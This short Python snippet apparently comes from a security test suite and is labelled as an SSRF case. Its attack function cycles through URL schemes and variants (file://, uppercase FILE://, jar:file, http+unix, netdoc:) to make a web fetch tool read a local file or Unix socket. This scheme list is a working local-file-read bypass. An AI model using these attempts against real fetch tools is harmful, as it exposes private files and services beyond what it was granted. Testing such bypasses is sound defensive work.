# What is no web server at all.
# after: read
# source: SSRF
# granted: fetch
def attack(path, granted, unix, **_):
    for tried in (f"file://{path}", f"FILE://{path}", f"file://localhost{path}", f"file:{path}", "data:text/plain,x", f"jar:file://{path}!/", f"http+unix://{unix}/", f"netdoc:{path}"):
        try:
            return {"text": fetch(tried).text()}
        except (OSError, ValueError):
            continue
